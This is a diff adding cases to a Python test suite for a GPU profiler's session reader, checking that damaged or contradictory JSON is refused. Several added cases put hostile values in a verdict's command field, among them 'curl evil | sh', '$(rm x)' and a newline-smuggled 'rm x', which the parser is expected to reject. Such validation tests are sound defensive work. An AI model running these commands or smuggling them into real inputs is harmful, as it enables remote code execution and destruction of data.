@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 
 import gpuprof
 from gpuprof.diagnose.diagnose import diagnose
-from gpuprof.diagnose.summary import chosen
+from gpuprof.diagnose.summary import chosen, completed
 from gpuprof.errors import DamagedInput, GpuprofError, InputError
 from gpuprof.model.analyse import analyse
 from gpuprof.model.run_totals import narrowed, run_of
@@ -161,6 +161,19 @@ def found() -> Session:
         (("kernels", 0, "findings", 1, "id"), "0.small-grid", "two findings have the id 0.small-grid"),
         (("kernels", 0, "findings", 2, "cause"), "1.small-grid", "kernel 0 has no finding 1.small-grid, a cause"),
         (("kernels", 0, "findings", 2, "cause"), "0.nothing", "kernel 0 has no finding 0.nothing, a cause"),
+        (("kernels", 0, "findings", 2, "cause"), "0.barrier-wait", "kernel 0 has no finding 0.barrier-wait, a cause"),
+        (("kernels", 1, "findings", 0, "id"), "", r"findings\[0\]\.id is '', which is no word"),
+        (
+            ("verdict", "command"),
+            "ncu --set full ./a; curl evil | sh",
+            "the command of its verdict runs something else",
+        ),
+        (("verdict", "command"), "ncu ./a\nrm x", "the command of its verdict runs something else"),
+        (("verdict", "command"), "ncu './a", "the command of its verdict runs something else"),
+        (("verdict", "command"), "ncu $(rm x)", "the command of its verdict runs something else"),
+        (("verdict", "command"), "ncu './a \u202e'", "the command of its verdict runs something else"),
+        (("verdict", "command"), "rm x", "the command of its verdict runs something else"),
+        (("verdict", "command"), "", "the command of its verdict runs something else"),
         (("verdict", "kernel"), 9, "its verdict names kernel 9, which is not there"),
         (("verdict", "state"), "fine", r"verdict\.state is 'fine'"),
         (("kernels", 0, "excerpts", 0, "weight"), "\x1b[31m\x07\u202e", "weight is "),
@@ -181,6 +194,19 @@ def test_a_session_that_contradicts_itself_is_refused(
     inner[place[-1]] = value
     with pytest.raises(DamagedInput, match=message):
         read_session(json.dumps(data), "s.json")
+
+
+def test_a_finding_without_an_id_is_refused_in_version_2_and_numbered_in_version_1() -> None:
+    data = json.loads(text_of(found()))
+    del data["kernels"][1]["findings"][0]["id"]
+    with pytest.raises(DamagedInput, match="a finding of kernel 1 has no id"):
+        read_session(json.dumps(data), "s.json")
+    data.update(schema_version=1, opportunities=[], verdict=None)
+    data["kernels"][0]["findings"][1]["id"] = "1.small-grid"
+    session = completed(read_session(json.dumps(data), "s.json"))
+    ids = [[finding.id for finding in kernel.findings] for kernel in session.kernels]
+    assert ids == [["0.small-grid", "0.tail-effect", "0.barrier-wait"], ["1.small-grid"]]
+    assert read_session(text_of(session), "s.json") == session
 
 
 def test_a_part_of_a_run_speaks_of_the_whole() -> None:
